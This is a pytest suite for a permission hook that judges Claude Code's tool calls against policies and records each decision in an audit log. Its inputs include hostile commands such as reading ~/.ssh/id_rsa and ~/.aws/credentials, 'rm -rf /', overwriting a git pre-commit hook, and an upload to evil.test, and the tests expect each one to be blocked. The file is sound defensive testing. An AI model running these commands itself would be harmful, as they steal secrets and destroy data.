"""`stockade hook claude-code`: Claude Code's PreToolUse hook, as Claude Code runs it.

The command runs in a real subprocess with the JSON Claude Code writes on stdin, over a real
project folder, and its reply is read as Claude Code reads it: JSON on stdout with exit 0, or a
blocking error (exit 2, the reason on stderr). Every decision is read back from the audit log.
The property tests call the same entry in-process (`answer`), and the judge directly.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import textwrap
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from stockade.engine.adapters.claude_code import ClaudeCodeJudge, HookInput
from stockade.engine.cli.hook import HookOptions, answer
from stockade.engine.cli.session import mounts_of
from stockade.engine.observe import read_audit, verify_audit
from stockade.policies import Effect, Policy

# --- running the command ----------------------------------------------------------------------


def _stockade() -> list[str]:
    script = Path(sys.executable).parent / "stockade"
    found = str(script) if script.exists() else shutil.which("stockade")
    if found is None:
        pytest.fail("the stockade console script is not installed; run pip install -e .")
    return [found]


def hook_input(project: Path, tool: str, tool_input: dict[str, Any], **extra: Any) -> str:
    """What Claude Code writes on the hook's stdin."""
    return json.dumps(
        {
            "session_id": "3f1c9d2e",
            "transcript_path": str(project / "transcript.jsonl"),
            "cwd": str(project),
            "permission_mode": "default",
            "hook_event_name": "PreToolUse",
            "tool_name": tool,
            "tool_input": tool_input,
            "tool_use_id": extra.pop("tool_use_id", f"toolu_{tool}"),
            **extra,
        }
    )


class Project:
    """A project folder, the state folder beside it, and the command run over them."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.folder = root / "project"
        self.state = root / "state"
        self.folder.mkdir()
        (self.folder / "README.md").write_text("# demo\n")
        (self.folder / "src").mkdir()
        (self.folder / "src" / "app.py").write_text("print('hi')\n")
        self.secret = root / "home" / ".ssh" / "id_rsa"  # outside the project
        self.secret.parent.mkdir(parents=True)
        self.secret.write_text("PRIVATE KEY\n")

    def run(
        self, stdin: str, *options: str, env: dict[str, str] | None = None
    ) -> subprocess.CompletedProcess[str]:
        environ = {k: v for k, v in os.environ.items() if k != "CLAUDE_PROJECT_DIR"}
        environ["HOME"] = str(self.root / "home")
        return subprocess.run(
            [*_stockade(), "hook", "claude-code", *options],
            input=stdin,
            capture_output=True,
            text=True,
            timeout=60,
            cwd=self.folder,
            env={**environ, **(env or {})},
        )

    def decide(
        self, tool: str, tool_input: dict[str, Any], *options: str, spawn: bool = False
    ) -> dict[str, str]:
        """The decision Claude Code reads (exit 0, JSON on stdout): from the command in a
        subprocess with ``spawn``, else from the same entry in this process (faster)."""
        stdin = hook_input(self.folder, tool, tool_input)
        if spawn:
            done = self.run(stdin, "--state", str(self.state), *options)
            code, stdout, stderr = done.returncode, done.stdout, done.stderr
        else:
            reply = answer(stdin, self.options(*options), environ={})
            code, stdout, stderr = reply.code, reply.stdout, reply.stderr
        assert code == 0, stderr
        assert stderr == ""
        reply_json = json.loads(stdout)
        assert set(reply_json) == {"hookSpecificOutput"}
        out = reply_json["hookSpecificOutput"]
        assert set(out) == {"hookEventName", "permissionDecision", "permissionDecisionReason"}
        assert out["hookEventName"] == "PreToolUse"
        return dict(out)

    def options(self, *given: str) -> HookOptions:
        """The command line's options, as the command reads them."""
        named = dict(zip(given[::2], given[1::2], strict=True))
        return HookOptions(
            workspace=Path(named["--workspace"]) if "--workspace" in named else None,
            mounts=(named["--mount"],) if "--mount" in named else (),
            policy_file=Path(named["--policy"]) if "--policy" in named else None,
            preset=named.get("--preset"),
            state=self.state,
        )

    def records(self) -> list[dict[str, Any]]:
        return list(read_audit(self.state / "audit.jsonl"))


@pytest.fixture
def project(tmp_path: Path) -> Project:
    return Project(tmp_path)


# --- the decisions ----------------------------------------------------------------------------


def test_reading_a_project_file_is_allowed_and_recorded(project: Project) -> None:
    out = project.decide("Read", {"file_path": str(project.folder / "src" / "app.py")}, spawn=True)
    assert out["permissionDecision"] == "allow"
    assert "rule workspace-files" in out["permissionDecisionReason"]
    (record,) = project.records()
    assert record["kind"] == "intent"
    assert record["tool"] == "claude_code:Read"
    assert record["call_id"] == "toolu_Read"
    assert record["effect"] == "allow"
    assert record["rule"] == "workspace-files"
    assert record["paths"] == [["/workspace/src/app.py", "read"]]
    assert verify_audit(project.state / "audit.jsonl").ok


def test_writing_dot_env_asks_under_the_default_preset_and_is_denied_under_strict(
    project: Project,
) -> None:
    write = {"file_path": str(project.folder / ".env"), "content": "API_KEY=x"}
    asked = project.decide("Write", write, spawn=True)
    assert asked["permissionDecision"] == "ask"
    assert "rule dangerous-path" in asked["permissionDecisionReason"]
    assert str(project.folder / ".env") in asked["permissionDecisionReason"]  # the host path
    denied = project.decide("Write", write, "--preset", "strict")
    assert denied["permissionDecision"] == "deny"
    assert denied["permissionDecisionReason"].startswith("Stockade: denied by rule ")
    assert [(r["effect"], r["rule"]) for r in project.records()] == [
        ("ask", "dangerous-path"),
        ("deny", "dangerous-path"),
    ]


@pytest.mark.parametrize("command", ["cat ~/.ssh/id_rsa", "cat ../home/.ssh/id_rsa"])
def test_a_command_naming_a_file_outside_the_project_is_denied(
    project: Project, command: str
) -> None:
    out = project.decide(
        "Bash",
        {"command": command, "description": "show the key"},
        spawn=command.startswith("cat ~"),
    )
    assert out["permissionDecision"] == "deny"
    assert "denied by rule sandbox:" in out["permissionDecisionReason"]
    assert "outside" in out["permissionDecisionReason"]
    (record,) = project.records()
    assert (record["tool"], record["action"], record["command"]) == (
        "claude_code:Bash",
        "execute",
        command,
    )
    assert [str(project.secret), "read"] in record["paths"]


def test_a_link_in_the_project_to_a_secret_outside_is_judged_where_it_leads(
    project: Project,
) -> None:
    (project.folder / "notes.txt").symlink_to(project.secret)
    for spawn, tool, tool_input in [
        (True, "Read", {"file_path": str(project.folder / "notes.txt")}),
        (False, "Bash", {"command": "cat notes.txt"}),
        (False, "Bash", {"command": "cat *.txt"}),  # the glob's matches, as bash expands it
        (False, "Grep", {"pattern": "KEY", "path": str(project.folder / "notes.txt")}),
    ]:
        out = project.decide(tool, tool_input, spawn=spawn)
        assert out["permissionDecision"] == "deny", (tool, tool_input, out)
        assert "rule sandbox" in out["permissionDecisionReason"]
        assert "symbolic link that leads outside" in out["permissionDecisionReason"]


def test_a_command_is_asked_about_unboxed_and_a_dangerous_one_denied(project: Project) -> None:
    push = project.decide("Bash", {"command": "git push --force"}, spawn=True)
    assert push["permissionDecision"] == "ask"  # the default preset asks before commands
    assert "rule commands-ask" in push["permissionDecisionReason"]
    assert "WITHOUT Stockade's box" in push["permissionDecisionReason"]
    wipe = project.decide("Bash", {"command": "rm -rf /"})
    assert wipe["permissionDecision"] == "deny"
    assert "rule dangerous-command:" in wipe["permissionDecisionReason"]
    # Claude Code's commands are never boxed: a preset that requires the box denies them all
    boxed = project.decide("Bash", {"command": "ls"}, "--preset", "permissive")
    assert boxed["permissionDecision"] == "deny"
    assert "require-isolation" in boxed["permissionDecisionReason"]


def test_a_policy_file_decides_by_claude_codes_tool_names_and_protects_itself(
    project: Project,
) -> None:
    policy = project.folder / "stockade.toml"
    policy.write_text(
        textwrap.dedent(
            """
            version = 1
            default = "allow"

            [[rules]]
            id = "git-reads"
            effect = "allow"
            tools = ["Bash"]
            commands = ["git status", "git diff *"]

            [[rules]]
            id = "no-github"
            effect = "deny"
            reason = "no changes on GitHub from here"
            tools = ["mcp__github__*"]

            [[rules]]
            id = "outside"
            effect = "deny"
            paths = ["/**", "!/workspace/**"]
            """
        )
    )
    given = ("--policy", str(policy))
    assert project.decide("Bash", {"command": "git status"}, *given)["permissionDecision"] == (
        "allow"
    )
    # a word known only when the command runs: never allowed unasked
    unknown = project.decide("Bash", {"command": "git diff $REV"}, *given)
    assert unknown["permissionDecision"] == "ask"
    assert "rule hook-unknown-path" in unknown["permissionDecisionReason"]
    github = project.decide("mcp__github__create_issue", {"title": "x"}, *given)
    assert github["permissionDecision"] == "deny"
    assert (
        "denied by rule no-github: no changes on GitHub from here"
        in (github["permissionDecisionReason"])
    )
    assert project.decide("mcp__docs__search", {"q": "x"}, *given)["permissionDecision"] == (
        "allow"
    )
    edit = project.decide("Edit", {"file_path": str(policy), "old_string": "a"}, *given)
    assert edit["permissionDecision"] == "deny"
    assert "rule stockade-state" in edit["permissionDecisionReason"]


def test_a_mount_makes_a_folder_outside_the_project_readable_and_no_more(
    project: Project,
) -> None:
    docs = project.root / "docs"
    docs.mkdir()
    (docs / "spec.md").write_text("spec\n")
    mount = ("--mount", f"/userinput={docs}:ro")
    read = project.decide("Read", {"file_path": str(docs / "spec.md")}, *mount)
    assert read["permissionDecision"] == "allow"
    write = project.decide("Write", {"file_path": str(docs / "spec.md"), "content": ""}, *mount)
    assert write["permissionDecision"] == "deny"
    assert "rule userinput-read-only" in write["permissionDecisionReason"]
    assert project.records()[0]["paths"] == [["/userinput/spec.md", "read"]]


def test_the_project_reached_through_a_link_is_the_same_project(project: Project) -> None:
    alias = project.root / "alias"
    alias.symlink_to(project.folder)
    stdin = hook_input(alias, "Read", {"file_path": str(alias / "README.md")})
    reply = answer(stdin, project.options("--workspace", str(alias)), environ={})
    assert json.loads(reply.stdout)["hookSpecificOutput"]["permissionDecision"] == "allow"
    assert project.records()[0]["paths"] == [["/workspace/README.md", "read"]]


def test_web_fetch_is_judged_by_the_network_table_when_the_policy_has_one(
    project: Project,
) -> None:
    policy = project.root / "net.toml"
    policy.write_text('version = 1\ndefault = "allow"\n[network]\nallow = ["docs.python.org"]\n')
    given = ("--policy", str(policy))
    fine = project.decide("WebFetch", {"url": "https://docs.python.org/3/", "prompt": "x"}, *given)
    assert fine["permissionDecision"] == "allow"
    out = project.decide("WebFetch", {"url": "https://evil.test/upload?k=1", "prompt": "x"}, *given)
    assert out["permissionDecision"] == "deny"
    assert "network.unlisted" in out["permissionDecisionReason"]


# --- what may not decide ----------------------------------------------------------------------


def _stop_event(project: Path) -> str:
    """The right shape, for the wrong event (a hook registered under Stop)."""
    return hook_input(project, "Read", {"file_path": "x"}, hook_event_name="Stop")


@pytest.mark.parametrize(
    ("stdin", "says", "spawn"),
    [
        ("not json at all", "not JSON", True),
        ("[1, 2]", "not an object", False),
        ('{"hook_event_name": "PreToolUse", "cwd": "/"}', "tool_name: Field required", False),
        (_stop_event, "this hook decides PreToolUse events, not 'Stop'", False),
    ],
)
def test_input_that_cannot_be_read_is_a_blocking_error_saying_what(
    project: Project, stdin: str | Callable[[Path], str], says: str, spawn: bool
) -> None:
    text = stdin if isinstance(stdin, str) else stdin(project.folder)
    if spawn:  # the real command
        done = project.run(text, "--state", str(project.state))
        code, stdout, stderr = done.returncode, done.stdout, done.stderr
    else:
        reply = answer(text, project.options(), environ={})
        code, stdout, stderr = reply.code, reply.stdout, reply.stderr
    assert code == 2  # Claude Code blocks the call and shows stderr to Claude
    assert stdout == ""
    assert stderr.startswith("Stockade blocked this ")
    assert says in stderr
    assert "Traceback" not in stderr
    (record,) = project.records()  # the refusal is recorded too
    assert (record["effect"], record["rule"]) == ("deny", "hook-input")


def test_a_tool_input_without_its_path_names_the_field(project: Project) -> None:
    reply = answer(hook_input(project.folder, "Edit", {"old_string": "a"}), project.options())
    assert reply.code == 2
    assert "tool_input.file_path: Field required" in reply.stderr


def test_a_policy_or_state_that_cannot_be_used_blocks_every_call(project: Project) -> None:
    read = hook_input(project.folder, "Read", {"file_path": str(project.folder / "README.md")})
    missing = project.run(read, "--policy", str(project.root / "nope.toml"))
    assert missing.returncode == 2
    assert "nope.toml" in missing.stderr
    (project.root / "taken").write_text("a file, not a folder")
    unwritable = answer(read, HookOptions(state=project.root / "taken"), environ={})
    assert unwritable.code == 2
    assert unwritable.stdout == ""  # no decision without its record
    assert "taken" in unwritable.stderr


@pytest.mark.parametrize("encoding", ["ascii", "latin-1"])
def test_a_reason_the_terminal_cannot_encode_is_still_given(
    project: Project, encoding: str
) -> None:
    """Claude Code may start the hook under any locale; a reason naming a path the terminal's
    encoding cannot write must not crash the command (a crash is an error Claude Code does
    not block on: the call would run)."""
    secret = project.root / "home" / "clé €.txt"  # outside the project: denied
    secret.write_text("x")
    stdin = hook_input(project.folder, "Read", {"file_path": str(secret)})
    done = project.run(stdin, "--state", str(project.state), env={"PYTHONIOENCODING": encoding})
    assert done.returncode == 0, done.stderr
    out = json.loads(done.stdout)["hookSpecificOutput"]
    assert out["permissionDecision"] == "deny"
    assert str(secret) in out["permissionDecisionReason"]


def test_by_default_the_log_is_kept_in_the_users_state_folder_for_the_project(
    project: Project,
) -> None:
    state_home = project.root / "xdg"
    env = {"XDG_STATE_HOME": str(state_home), "CLAUDE_PROJECT_DIR": str(project.folder)}
    read = hook_input(project.folder / "src", "Read", {"file_path": "app.py"})
    done = project.run(read, env=env)
    assert json.loads(done.stdout)["hookSpecificOutput"]["permissionDecision"] == "allow"
    shown = subprocess.run(
        [*_stockade(), "audit", "show", "--workspace", str(project.folder), "--json"],
        capture_output=True,
        text=True,
        timeout=60,
        env={**os.environ, **env},
    )
    assert shown.returncode == 0, shown.stderr
    (record,) = [json.loads(line) for line in shown.stdout.splitlines()]
    # $CLAUDE_PROJECT_DIR is the workspace: a path relative to the call's cwd lands under it
    assert record["paths"] == [["/workspace/src/app.py", "read"]]
    assert not list(project.folder.rglob("*.jsonl"))  # nothing written into the project


def test_calls_decided_at_once_share_one_intact_log(project: Project) -> None:
    def one(number: int) -> int:
        stdin = hook_input(
            project.folder, "Read", {"file_path": "README.md"}, tool_use_id=f"toolu_{number}"
        )
        return project.run(stdin, "--state", str(project.state)).returncode

    with ThreadPoolExecutor(4) as pool:
        assert list(pool.map(one, range(4))) == [0] * 4
    assert verify_audit(project.state / "audit.jsonl").ok
    assert sorted(r["call_id"] for r in project.records()) == [f"toolu_{n}" for n in range(4)]


# --- properties -------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def folders(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    root = tmp_path_factory.mktemp("hook")
    (root / "project").mkdir()
    return root / "project", root / "state"


def _valid(project: Path) -> dict[str, Any]:
    data: dict[str, Any] = json.loads(hook_input(project, "Read", {"file_path": "README.md"}))
    return data


_json = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=20),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner),
    max_leaves=12,
)
_REQUIRED = ["hook_event_name", "tool_name", "tool_input", "cwd"]


@st.composite
def _spoiled(draw: st.DrawFn, project: Path) -> str:
    """A hook input with one required field missing or of the wrong kind."""
    data = _valid(project)
    key = draw(st.sampled_from(_REQUIRED))
    how = draw(st.sampled_from(["drop", "wrong"]))
    if how == "drop":
        del data[key]
    elif key == "tool_input":
        data[key] = draw(_json.filter(lambda v: not isinstance(v, dict)))
    elif key == "cwd":
        data[key] = draw(st.text(max_size=20).filter(lambda v: not v.startswith("/")))
    elif key == "hook_event_name":
        data[key] = draw(st.text(max_size=20).filter(lambda v: v != "PreToolUse"))
    else:
        data[key] = draw(_json.filter(lambda v: not isinstance(v, str)))
    return json.dumps(data)


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(data=st.data())
def test_no_input_that_is_not_a_pretooluse_call_is_ever_allowed(
    folders: tuple[Path, Path], data: st.DataObject
) -> None:
    project, state = folders
    stdin = data.draw(
        st.text(max_size=200) | st.binary(max_size=200) | _json.map(json.dumps) | _spoiled(project),
        label="stdin",
    )
    reply = answer(stdin, HookOptions(workspace=project, state=state), environ={})
    assert reply.code == 2, reply
    assert reply.stdout == ""
    assert reply.stderr.startswith("Stockade blocked this ")
    assert "Traceback" not in reply.stderr
    assert reply.stderr.count("\n") == 1


@pytest.fixture(scope="module")
def judge(folders: tuple[Path, Path]) -> Iterator[ClaudeCodeJudge]:
    project, _ = folders
    judged = ClaudeCodeJudge(Policy.preset("default"), mounts_of(project))
    yield judged
    judged.close()


@settings(
    max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(command=st.text(min_size=1, max_size=120) | st.lists(
    st.sampled_from(["cat", "~/x", "../", "$HOME", "*", "{a,b}", ">", "|", "&&", "rm", "-rf",
                     "/etc/passwd", "'", '"', "$(ls)", "cd", "..", "README.md", ";", "\\"]),
    min_size=1, max_size=8).map(" ".join))  # fmt: skip
def test_no_command_line_is_allowed_unasked_by_the_default_preset(
    judge: ClaudeCodeJudge, folders: tuple[Path, Path], command: str
) -> None:
    project, _ = folders
    hook = HookInput.model_validate(
        {**_valid(project), "tool_name": "Bash", "tool_input": {"command": command}}
    )
    verdict = judge.judge(hook)
    assert verdict.decision.effect in (Effect.ASK, Effect.DENY), verdict
    assert verdict.output().hook_specific_output.permission_decision != "allow"


# --- how a command line's files are used ------------------------------------------------------


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("rm -f .env", [("/p/.env", "delete")]),
        ("cp a.txt /p/out/b.txt", [("/p/a.txt", "read"), ("/p/out/b.txt", "write")]),
        ("cat notes", [("/p/notes", "read")]),
        ("python tool", []),  # a word that names no file here, for a program that takes any
        ("mv old.txt new.txt", [("/p/old.txt", "read"), ("/p/new.txt", "write"),
                                ("/p/old.txt", "delete")]),
        ("sed -i s/a/b/ ./conf", [("/p/conf", "write")]),
        ("grep -r /etc/passwd ./src", [("/p/src", "read")]),  # the pattern is not a file
        ("awk '/^x/ {print}' ./f", [("/p/f", "read")]),
        ("dd if=/dev/zero of=./disk.img", [("/dev/zero", "read"), ("/p/disk.img", "write")]),
        ("tee -a ./log < ./in", [("/p/log", "write"), ("/p/in", "read")]),
        ("cd sub && cat ../x", [("/p/sub", "read"), ("/p/../x", "read"), ("/p/sub/../x", "read")]),
        ("git log --output=/tmp/o", [("/tmp/o", "read")]),
        ("echo /etc/passwd", []),  # printed, not opened
        ("curl https://example.test/a/b", []),  # a URL is not a file
    ],
)  # fmt: skip
def test_the_files_a_command_names_are_judged_by_how_the_program_uses_them(
    command: str, expected: list[tuple[str, str]]
) -> None:
    from stockade.engine.adapters._claude_bash import named_paths
    from stockade.policies import parse_command

    named = named_paths(parse_command(command), "/p")
    assert sorted(named.paths) == sorted(expected)
    assert named.unknown == []


@pytest.mark.parametrize(
    "command", ["cat $HOME/.ssh/id_rsa", "cat {a,../../etc/passwd}", "cd $D && cat x", "ls ~-/x"]
)
def test_what_a_command_line_cannot_show_is_unknown(command: str) -> None:
    from stockade.engine.adapters._claude_bash import named_paths
    from stockade.policies import parse_command

    assert named_paths(parse_command(command), "/p").unknown


def test_under_a_policy_that_allows_commands_their_files_still_decide(
    judge: ClaudeCodeJudge, folders: tuple[Path, Path], tmp_path: Path
) -> None:
    project, _ = folders
    policy = Policy.from_dict(
        {
            "default": "allow",
            "dangerous_paths": {"effect": "deny"},
            "rules": [{"id": "commands", "effect": "allow", "actions": ["execute"]}],
        }
    )
    allowing = ClaudeCodeJudge(policy, mounts_of(project))
    try:

        def effect(command: str) -> tuple[str, str | None]:
            hook = HookInput.model_validate(
                {**_valid(project), "tool_name": "Bash", "tool_input": {"command": command}}
            )
            decision = allowing.judge(hook).decision
            return decision.effect.value, decision.rule

        assert effect("ls -la src") == ("allow", "commands")
        assert effect("rm -f .git/hooks/pre-commit") == ("deny", "dangerous-path")
        assert effect("cp evil.sh .git/hooks/pre-commit") == ("deny", "dangerous-path")
        assert effect("cat ~/.aws/credentials")[1] == "sandbox"
        assert effect("python build.py > $OUT") == ("ask", "hook-unknown-path")
    finally:
        allowing.close()


def test_under_strict_only_claude_codes_read_only_tools_run_unasked(
    folders: tuple[Path, Path],
) -> None:
    project, _ = folders
    strict = ClaudeCodeJudge(Policy.preset("strict"), mounts_of(project))
    try:
        found = {}
        for tool, given in [
            ("Read", {"file_path": str(project / "README.md")}),
            ("Grep", {"pattern": "x"}),
            ("TodoWrite", {"todos": []}),
            ("Write", {"file_path": str(project / "a.txt"), "content": ""}),
            ("WebFetch", {"url": "https://example.test/", "prompt": "x"}),
            ("mcp__files__delete", {}),
            ("odd.name", {}),  # no model API takes it: judged by the policy alone
        ]:
            hook = HookInput.model_validate(
                {**_valid(project), "tool_name": tool, "tool_input": given}
            )
            found[tool] = strict.judge(hook).decision.effect.value
        assert found == {
            "Read": "allow",
            "Grep": "allow",
            "TodoWrite": "allow",
            "Write": "deny",
            "WebFetch": "deny",
            "mcp__files__delete": "deny",
            "odd.name": "deny",
        }
    finally:
        strict.close()
